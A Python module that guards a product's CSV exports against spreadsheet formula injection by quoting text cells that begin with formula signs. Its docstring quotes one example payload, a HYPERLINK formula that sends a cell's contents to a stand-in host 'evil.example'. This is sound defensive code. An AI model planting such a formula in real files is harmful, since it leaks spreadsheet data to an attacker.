"""CSV a spreadsheet will not run: every CSV the product writes goes through `writer`.

Excel, LibreOffice and Google Sheets read a cell that begins with `=`, `+`, `-` or `@` as a formula,
so a store named `=HYPERLINK("http://evil.example/?leak="&A1,"Open")` in Square would be a live
link in our export (OWASP "CSV injection", which also lists a leading tab and carriage return). The
standard answer: such a text cell gets a leading `'`, which makes it text; the spreadsheet shows the
quote, and our footfall import takes it off again (`unescape`). The full-width forms (U+FF1D,
U+FF0B, U+FF0D, U+FF20) are reported to act as formula signs in East Asian Excel: covered too.

Numbers are left alone, so a refund stays a number: int, float and Decimal values, and strings that
are a plain decimal number (the API's money, e.g. "-12.50"). Such a string cannot be a formula,
whoever wrote it, so this holds for any cell and no caller has to say which cells are names.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, TextIO

DANGEROUS_FIRST = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
# ASCII digits only: re's \d would also take other scripts' digits, which are not numbers to Excel.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def _dangerous(text: str) -> bool:
    return text[:1] in DANGEROUS_FIRST and _PLAIN_NUMBER.fullmatch(text) is None


def cell(value: Any) -> Any:
    """The value as a CSV cell no spreadsheet reads as a formula (None as blank)."""
    if value is None:
        return ""
    if isinstance(value, str) and _dangerous(value):
        return "'" + value
    return value


def unescape(text: str) -> str:
    """The text `cell` was given, from the cell it wrote (anything else unchanged)."""
    if text[:1] == "'" and _dangerous(text[1:]):
        return text[1:]
    return text


class Writer:
    """`csv.writer` (CRLF line ends, as spreadsheets write) whose every cell goes through `cell`."""

    def __init__(self, out: TextIO) -> None:
        self._writer = csv.writer(out, lineterminator="\r\n")

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([cell(value) for value in row])


def writer(out: TextIO) -> Writer:
    """A CSV writer into `out` that neutralises formula-looking text cells."""
    return Writer(out)
